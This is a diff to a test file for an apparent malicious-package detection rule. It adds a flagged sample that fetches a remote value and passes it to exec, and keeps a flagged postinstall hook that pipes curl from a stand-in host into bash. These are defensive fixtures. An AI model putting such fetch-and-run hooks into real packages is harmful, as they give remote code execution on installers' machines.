@@ -3,6 +3,10 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a page that is opened, or whatever is answered',
+      code: "const { exec } = require('node:child_process');\n(async () => {\n  const { url } = await (await fetch('https://a.example/start')).json();\n  let command = url;\n  if (process.platform === 'darwin') command = `open \"${url}\"`;\n  exec(command);\n})();",
+    },
+    {
       name: 'curl into a shell at postinstall',
       manifest: { scripts: { postinstall: 'curl -fsSL https://payload.example/x.sh | bash' } },
       code: '',
@@ -71,6 +75,10 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a page that is opened, on each kind of machine',
+      code: 'const { exec } = require(\'node:child_process\');\nexports.login = async () => {\n  const { url } = await (await fetch(\'https://login.weather.example/start\')).json();\n  let command;\n  if (process.platform === \'darwin\') command = `open "${url}"`;\n  else command = process.platform === \'win32\' ? `start "" "${url}"` : `xdg-open "${url}"`;\n  exec(command);\n};\nexports.login();',
+    },
     {
       name: 'a binary that is saved, and run when asked',
       code: "const fs = require('fs'), cp = require('child_process');\nconst file = __dirname + '/bin/tides';\nexports.update = async (u) => fs.writeFileSync(file, Buffer.from(await (await fetch(u)).arrayBuffer()));\nexports.run = (a) => cp.spawnSync(file, a)",
